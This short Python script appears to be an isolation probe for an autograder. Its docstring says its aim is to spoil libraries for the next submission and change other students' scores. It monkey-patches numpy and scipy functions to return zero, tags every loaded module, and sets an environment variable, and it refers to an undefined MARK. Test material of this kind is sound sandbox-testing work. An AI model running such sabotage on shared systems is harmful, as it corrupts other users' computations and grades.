"""Spoils the libraries in memory, for whoever computes with them next.

Succeeds if the next submission sees it, or another student's score changes.
"""

import os
import sys

import numpy as np
import scipy.linalg
import scipy.signal

for module in list(sys.modules.values()):
    try:
        setattr(module, MARK.replace("-", "_"), True)
    except (AttributeError, TypeError):
        pass
np.dot = np.sum = np.zeros = scipy.signal.lfilter = lambda *args, **kwargs: 0
os.environ["MARKED"] = MARK
